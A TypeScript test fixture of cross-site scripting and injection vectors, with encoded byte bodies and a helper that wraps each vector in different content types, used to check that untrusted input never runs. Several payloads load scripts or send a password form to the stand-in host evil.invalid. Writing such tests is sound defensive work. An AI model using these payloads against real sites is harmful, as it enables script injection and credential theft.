/**
 * What strangers put where a page might take it for markup, code or an address. Each that could run sets `window.ran`, opens a dialog, or asks another
 * host; hostile.test.ts looks for all three.
 */
const RUN = 'window.ran=1';

/** Text of one line; some are refused by the API or the edge, which is as good. */
export const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script src=//evil.invalid/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `'"><img src=x onerror=alert(1)>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src=javascript:${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=//evil.invalid/x.swf>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<style>@import'//evil.invalid/x.css';*{display:none}</style>`,
  `<meta http-equiv=refresh content=0;url=//evil.invalid>`,
  `<base href=//evil.invalid/>`,
  `<form action=//evil.invalid><input name=password autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=//evil.invalid/x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.invalid/x`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `__proto__`,
  `constructor`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  'x'.repeat(3_000),
  '\u202egnp.exe <b>\u2066\u200b\u061c',
];

/** Bodies that are no clean text: broken UTF-8, null bytes, and what some readers take for another charset. */
export const RAW_BODIES: readonly Buffer[] = [
  Buffer.from([0xff, 0xfe, 0x3c, 0x00, 0x73, 0x00]),
  Buffer.from(`\u0000<script>${RUN}</script>\u0000`),
  Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(`script>${RUN}</script>`)]),
  Buffer.from(`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`),
];

export const TYPES: readonly string[] = [
  'application/json',
  'text/html',
  'text/plain',
  'image/svg+xml',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=b',
  'text/javascript',
];

/** A vector as a body of this kind, so that it comes through the reader of that kind. */
export function bodyOf(type: string, vector: string): string {
  if (type === 'application/json')
    return JSON.stringify({ [vector]: vector, __proto__x: { __proto__: null, list: [vector] } });
  if (type === 'application/x-www-form-urlencoded') return new URLSearchParams({ [vector]: vector }).toString();
  if (type.startsWith('multipart/'))
    return `--b\r\nContent-Disposition: form-data; name="${vector.replaceAll('"', '')}"\r\n\r\n${vector}\r\n--b--\r\n`;
  if (type === 'image/svg+xml')
    return `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`;
  return vector;
}
